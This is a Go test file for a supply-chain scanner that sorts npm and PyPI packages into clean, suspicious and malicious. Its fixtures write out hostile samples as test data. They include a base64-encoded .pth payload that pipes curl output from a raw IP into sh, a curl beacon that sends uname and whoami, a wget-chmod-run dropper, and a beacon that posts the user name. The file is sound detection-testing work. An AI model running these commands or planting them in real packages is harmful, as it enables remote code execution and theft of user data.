package inspect

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"customs/internal/analyze"
	"customs/internal/archive"
	"customs/internal/finding"
	"customs/internal/pkgmeta"
)

func rulesOf(r Result) []string {
	var ids []string
	for _, f := range r.Findings {
		if !slices.Contains(ids, f.Rule) {
			ids = append(ids, f.Rule)
		}
	}
	return ids
}

// TestFixtures checks the verdicts a user relies on for the npm attacks of
// 2025 (written from public write-ups: no real npm samples are in the
// corpus), their clean predecessors, benign install scripts, and the
// common PyPI patterns.
func TestFixtures(t *testing.T) {
	dir := t.TempDir()
	chalkJSON := `, "type": "module", "exports": "./source/index.js"`
	debugJSON := `, "main": "./src/index.js"`
	debugSource := "const tty = require('tty');\nconst util = require('util');\nexports.log = (...args) => process.stderr.write(util.format(...args) + '\\n');\nexports.useColors = () => tty.isatty(process.stderr.fd);\nmodule.exports = require('./common')(exports);\n"
	cases := []struct {
		name     string
		path     string
		want     finding.Verdict
		notWorse finding.Verdict // when set, the verdict may be anything up to this
		rules    []string        // rules that must be among the findings
	}{
		{name: "chalk trojaned (Sept 2025)", want: finding.Malicious,
			path:  writeTarGz(t, dir, "chalk-5.6.1.tgz", npmPackage("chalk", "5.6.1", chalkJSON, file{"source/index.js", walletDrainer() + chalkSource})),
			rules: []string{"js-obfuscator-output", "web3-network-hook", "wallet-address-list"}},
		{name: "chalk clean predecessor", want: finding.Clean,
			path: writeTarGz(t, dir, "chalk-5.6.0.tgz", npmPackage("chalk", "5.6.0", chalkJSON, file{"source/index.js", chalkSource}))},
		{name: "debug trojaned (Sept 2025)", want: finding.Malicious,
			path:  writeTarGz(t, dir, "debug-4.4.2.tgz", npmPackage("debug", "4.4.2", debugJSON, file{"src/index.js", walletDrainer() + debugSource})),
			rules: []string{"combo-hook-wallet"}},
		{name: "debug clean predecessor", want: finding.Clean,
			path: writeTarGz(t, dir, "debug-4.4.1.tgz", npmPackage("debug", "4.4.1", debugJSON, file{"src/index.js", debugSource}))},
		{name: "Shai-Hulud worm", want: finding.Malicious,
			path: writeTarGz(t, dir, "tinycolor-4.1.1.tgz", npmPackage("@ctrl/tinycolor", "4.1.1", `, "scripts": {"postinstall": "node bundle.js"}`,
				file{"bundle.js", shaiHuludBundle}, file{"index.js", "module.exports = {};\n"})),
			rules: []string{"secret-scanner-run", "package-json-hook-injection", "combo-token-propagation"}},
		{name: "postinstall curl|sh dropper", want: finding.Malicious,
			path:  writeTarGz(t, dir, "colors-helper-1.0.0.tgz", npmPackage("colors-helper", "1.0.0", shellDropperJSON, file{"index.js", "module.exports = {};\n"})),
			rules: []string{"pipe-to-shell"}},
		{name: "postinstall node dropper", want: finding.Malicious,
			path:  writeTarGz(t, dir, "lodahs-4.17.22.tgz", npmPackage("lodahs", "4.17.22", `, "scripts": {"postinstall": "node setup.js"}`, file{"setup.js", nodeDropper}, file{"index.js", "module.exports = {};\n"})),
			rules: []string{"raw-ip-url"}},
		{name: "esbuild-style install.js", notWorse: finding.Suspicious,
			path: writeTarGz(t, dir, "esbuild-0.25.0.tgz", npmPackage("esbuild", "0.25.0", `, "main": "lib/main.js", "scripts": {"postinstall": "node install.js"}`,
				file{"install.js", esbuildInstall}, file{"lib/main.js", "module.exports = require('./esbuild');\n"}))},
		{name: "node-gyp addon", want: finding.Clean,
			path: writeTarGz(t, dir, "addon-1.0.0.tgz", npmPackage("addon", "1.0.0", "",
				file{"binding.gyp", `{"targets": [{"target_name": "addon", "sources": ["addon.cc"]}]}`}, file{"index.js", "module.exports = require('./build/Release/addon.node');\n"}))},
		{name: "setup.py install-hook beacon", want: finding.Malicious,
			path: writeTarGz(t, dir, "reqeusts-toolkit-1.0.0.tar.gz", []file{
				{"reqeusts-toolkit-1.0.0/PKG-INFO", fmt.Sprintf(pkgInfo, "reqeusts-toolkit", "1.0.0")},
				{"reqeusts-toolkit-1.0.0/setup.py", setupBeacon},
				{"reqeusts-toolkit-1.0.0/reqeusts_toolkit/__init__.py", ""}}),
			rules: []string{"combo-setup-hook-network"}},
		{name: "setup.py building a C extension", want: finding.Clean,
			path: writeTarGz(t, dir, "fastthing-2.1.0.tar.gz", []file{
				{"fastthing-2.1.0/PKG-INFO", fmt.Sprintf(pkgInfo, "fastthing", "2.1.0")},
				{"fastthing-2.1.0/setup.py", setupBuildExt},
				{"fastthing-2.1.0/fastthing/__init__.py", "from ._speedups import fast\n"}})},
		{name: "wheel with a code-running .pth", want: finding.Malicious,
			path: writeZip(t, dir, "helper-0.1-py3-none-any.whl", []file{
				{"helper-0.1.dist-info/METADATA", fmt.Sprintf(pkgInfo, "helper", "0.1")},
				{"helper.pth", "import base64; exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgLXMgaHR0cDovLzIwMy4wLjExMy43L3YgfCBzaCIp'))\n"},
				{"helper/__init__.py", ""}}),
			rules: []string{"pth-code", "py-exec-encoded"}},
		{name: "probe in a test-named module of the package itself is scanned", want: finding.Malicious,
			path: writeTarGz(t, dir, "probe-9.9.9.tar.gz", []file{
				{"probe-9.9.9/PKG-INFO", fmt.Sprintf(pkgInfo, "probe", "9.9.9")},
				{"probe-9.9.9/probe/__init__.py", ""},
				{"probe-9.9.9/probe/test_callback.py", "import subprocess\n\ndef test_callback():\n    subprocess.run([\"curl\", \"-fsSL\", \"http://203.0.113.7:8585/p?h=$(uname -a)&u=$(whoami)\"], shell=False)\n"}}),
			rules: []string{"combo-recon-network"}},
		{name: "clean SDK copy pulling in a typosquatted core package", want: finding.Suspicious,
			path: writeTarGz(t, dir, "sdk-kms-2.16.1.tar.gz", []file{
				{"sdk-kms-2.16.1/PKG-INFO", fmt.Sprintf(pkgInfo, "sdk-kms", "2.16.1") + "Requires-Dist: reqeusts>=2\nRequires-Dist: numpy\n"},
				{"sdk-kms-2.16.1/sdk_kms/__init__.py", "def get_key(client, key_id):\n    return client.call('GetKey', key_id)\n"}}),
			rules: []string{"dependency-typosquat"}},
		{name: "popular dependencies are not judged", want: finding.Clean,
			path: writeTarGz(t, dir, "tool-1.0.tar.gz", []file{
				{"tool-1.0/PKG-INFO", fmt.Sprintf(pkgInfo, "tool", "1.0") + "Requires-Dist: requests>=2\nRequires-Dist: numpy\nRequires-Dist: reqeusts ; extra == 'x'\n"},
				{"tool-1.0/tool/__init__.py", "def f():\n    return 1\n"}})},
		{name: "dropper in a test module that the package's own code imports", want: finding.Malicious,
			path: writeTarGz(t, dir, "colours-1.2.5.tar.gz", []file{
				{"colours-1.2.5/PKG-INFO", fmt.Sprintf(pkgInfo, "colours", "1.2.5")},
				{"colours-1.2.5/colours/__init__.py", "from .initialise import init, deinit\n"},
				{"colours-1.2.5/colours/initialise.py", "from .tests import helper_test\n\ndef deinit():\n    helper_test.reset_modules()\n"},
				{"colours-1.2.5/colours/tests/helper_test.py", "import os\n\ndef reset_modules():\n    os.system('wget https://files.example/s/proc -O /tmp/proc && chmod +x /tmp/proc && /tmp/proc &')\n"}}),
			rules: []string{"download-chmod-exec"}},
		{name: "stealer hidden in tests is weighed low", want: finding.Clean,
			path: writeTarGz(t, dir, "lib-1.0.tar.gz", []file{
				{"lib-1.0/PKG-INFO", fmt.Sprintf(pkgInfo, "lib", "1.0")},
				{"lib-1.0/lib/__init__.py", "def f():\n    return 1\n"},
				{"lib-1.0/tests/test_hooks.py", "def test_webhook_parse():\n    u = 'https://discord.com/api/webhooks/1098765432109876543/AbCdEfGhIjKlMnOpQrStUvWxYz0123456789_-abcdefgh'\n    assert parse(u)\n"}})},
	}
	paths := make([]string, len(cases))
	for i, c := range cases {
		paths[i] = c.path
	}
	results := Run(context.Background(), paths, Options{})
	for i, c := range cases {
		r := results[i]
		t.Run(c.name, func(t *testing.T) {
			if r.Target != c.path {
				t.Fatalf("result %d is for %s, want %s (input order)", i, r.Target, c.path)
			}
			if r.Error != "" {
				t.Fatalf("error: %s", r.Error)
			}
			switch {
			case c.notWorse != "":
				if r.Verdict.Rank() > c.notWorse.Rank() {
					t.Errorf("verdict %s (score %.1f), want at most %s; findings %v", r.Verdict, r.Score, c.notWorse, rulesOf(r))
				}
			case r.Verdict != c.want:
				t.Errorf("verdict %s (score %.1f), want %s; findings %v", r.Verdict, r.Score, c.want, rulesOf(r))
			}
			for _, id := range c.rules {
				if !slices.Contains(rulesOf(r), id) {
					t.Errorf("finding %s missing; got %v", id, rulesOf(r))
				}
			}
			for _, f := range r.Findings {
				if f.Rule == "" || f.File == "" || f.Message == "" {
					t.Errorf("incomplete finding %+v", f)
				}
			}
		})
	}
}

// TestTargetErrors: a missing or unreadable target is reported as an error
// result, and the run goes on with the others.
func TestTargetErrors(t *testing.T) {
	dir := t.TempDir()
	junk := filepath.Join(dir, "junk.tgz")
	if err := os.WriteFile(junk, []byte("this is not an archive at all"), 0o644); err != nil {
		t.Fatal(err)
	}
	good := writeTarGz(t, dir, "ok-1.0.0.tgz", npmPackage("ok", "1.0.0", "", file{"index.js", "module.exports = 1;\n"}))
	res := Run(context.Background(), []string{filepath.Join(dir, "missing.tgz"), junk, good}, Options{Jobs: 2})
	if res[0].Error == "" || res[1].Error == "" {
		t.Errorf("want errors for missing and junk targets, got %q and %q", res[0].Error, res[1].Error)
	}
	if res[2].Error != "" || res[2].Verdict != finding.Clean || res[2].Name != "ok" || res[2].Files != 2 {
		t.Errorf("good target: %+v", res[2])
	}
}

// TestInstallScriptFiles: files named by npm install scripts run at
// install time.
func TestInstallScriptFiles(t *testing.T) {
	for cmd, want := range map[string][]string{
		"node install.js":                                   {"install.js"},
		"node ./scripts/post.js --flag":                     {"scripts/post.js"},
		`node -e "try{require('./postinstall')}catch(e){}"`: {"postinstall.js"},
		"node-gyp rebuild":                                  nil,
		"sh ../../evil.sh":                                  nil,
	} {
		if got := scriptFiles(cmd); !slices.Equal(got, want) {
			t.Errorf("scriptFiles(%q) = %q, want %q", cmd, got, want)
		}
	}
}

// TestFileRoles: the package's own .py and shell files that setup.py names
// run at install time; modules it merely imports (build configurators), a
// bare __init__.py, tests, other shell scripts, the setuptools/buildout
// bootstrap scripts beside setup.py and CI configuration do not; in a
// wheel setup.py never runs.
func TestFileRoles(t *testing.T) {
	setup := "import os\nimport kitconfig as kc\nspec = spec_from_file_location('x', os.path.join(here, 'kit', '_postinstall.py'))\nversion = read(os.path.join('kit', 'sub', '__init__.py'))\nsubprocess.call('./post.sh')\nsetup(name='kit')\n"
	for _, c := range []struct {
		format archive.Format
		want   map[string]analyze.Role
	}{
		{archive.FormatTarGz, map[string]analyze.Role{
			"kit-1.0/kit/_postinstall.py":     analyze.RoleInstall,
			"kit-1.0/src/kit/_postinstall.py": analyze.RoleInstall,
			"kit-1.0/post.sh":                 analyze.RoleInstall,
			"kit-1.0/kitconfig.py":            analyze.RoleCode,
			"kit-1.0/kit/core.py":             analyze.RoleCode,
			"kit-1.0/kit/bootstrap.py":        analyze.RoleCode,
			"kit-1.0/kit/sub/__init__.py":     analyze.RoleImport,
			"kit-1.0/tests/_postinstall.py":   analyze.RoleLow,
			"kit-1.0/scripts/release.sh":      analyze.RoleLow,
			"kit-1.0/ez_setup.py":             analyze.RoleLow,
			"kit-1.0/bootstrap.py":            analyze.RoleLow,
			"kit-1.0/.circleci/install.sh":    analyze.RoleLow,
			"kit-1.0/.github/scripts/x.py":    analyze.RoleLow,
		}},
		{archive.FormatZip, map[string]analyze.Role{"kit-1.0/kit/_postinstall.py": analyze.RoleCode}},
	} {
		role := newContexts(pkgmeta.Meta{Ecosystem: pkgmeta.PyPI, Name: "kit", Root: "kit-1.0/"}, c.format, []byte(setup), nil).role
		for file, want := range c.want {
			if got := role(file); got != want {
				t.Errorf("%s in a %s: role %v, want %v", file, c.format, got, want)
			}
		}
	}
}

// TestVendoredWheelIsNotThePackage: the metadata of a wheel vendored inside
// an sdist describes the vendored package, not the one being inspected, so
// it must not name the result.
func TestVendoredWheelIsNotThePackage(t *testing.T) {
	dir := t.TempDir()
	wheel, err := os.ReadFile(writeZip(t, dir, "inner-2.0-py3-none-any.whl", []file{
		{"inner-2.0.dist-info/METADATA", fmt.Sprintf(pkgInfo, "inner", "2.0")},
		{"inner/__init__.py", ""}}))
	if err != nil {
		t.Fatal(err)
	}
	withOwn := writeTarGz(t, dir, "outer-1.0.tar.gz", []file{
		{"outer-1.0/PKG-INFO", fmt.Sprintf(pkgInfo, "outer", "1.0")},
		{"outer-1.0/_vendor/inner-2.0-py3-none-any.whl", string(wheel)},
		{"outer-1.0/outer/__init__.py", ""}})
	withoutOwn := writeTarGz(t, dir, "solo-3.1.tar.gz", []file{
		{"solo-3.1/setup.py", "from setuptools import setup\nsetup(name='solo', version='3.1')\n"},
		{"solo-3.1/_vendor/inner-2.0-py3-none-any.whl", string(wheel)},
		{"solo-3.1/solo/__init__.py", ""}})
	res := Run(context.Background(), []string{withOwn, withoutOwn}, Options{})
	if r := res[0]; r.Name != "outer" || r.Version != "1.0" {
		t.Errorf("sdist with its own PKG-INFO read as %s %s, want outer 1.0", r.Name, r.Version)
	}
	if r := res[1]; r.Name == "inner" || r.Version == "2.0" {
		t.Errorf("sdist without PKG-INFO took the vendored wheel's metadata: %s %s", r.Name, r.Version)
	}
}

// TestPackageSize: a module that reports the user name to a hard-coded
// URL is malicious in a two-file package, but not inside a library of
// many modules (at most suspicious there); tests and empty files do not
// make a package large.
func TestPackageSize(t *testing.T) {
	dir := t.TempDir()
	beacon := "import getpass, requests\n\ndef report():\n    requests.post('https://collector.example/r', data={'u': getpass.getuser()})\n"
	module := "def f%d(x):\n    return [x * %d for _ in range(10)]\n" + strings.Repeat("# filler line to make the module look like real code\n", 40)
	tiny := []file{
		{"tiny-1.0/PKG-INFO", fmt.Sprintf(pkgInfo, "tiny", "1.0")},
		{"tiny-1.0/tiny/__init__.py", ""},
		{"tiny-1.0/tiny/client.py", beacon},
	}
	large := []file{{"large-1.0/PKG-INFO", fmt.Sprintf(pkgInfo, "large", "1.0")}, {"large-1.0/large/client.py", beacon}}
	padded := slices.Clone(tiny)
	hollow := slices.Clone(tiny) // empty __init__.py files only mark directories
	for i := range 20 {
		large = append(large, file{fmt.Sprintf("large-1.0/large/m%d.py", i), fmt.Sprintf(module, i, i)})
		padded = append(padded, file{fmt.Sprintf("tiny-1.0/tests/test_m%d.py", i), fmt.Sprintf(module, i, i)})
		hollow = append(hollow, file{fmt.Sprintf("tiny-1.0/tiny/sub%d/__init__.py", i), "\n"})
	}
	res := Run(context.Background(), []string{
		writeTarGz(t, dir, "tiny-1.0.tar.gz", tiny),
		writeTarGz(t, dir, "large-1.0.tar.gz", large),
		writeTarGz(t, dir, "padded-1.0.tar.gz", padded),
		writeTarGz(t, dir, "hollow-1.0.tar.gz", hollow),
	}, Options{})
	for i, wantMalicious := range []bool{true, false, true, true} {
		if r := res[i]; (r.Verdict == finding.Malicious) != wantMalicious {
			t.Errorf("%s: %s (score %.1f, rules %v), want malicious %v", r.Target, r.Verdict, r.Score, rulesOf(r), wantMalicious)
		}
	}
}
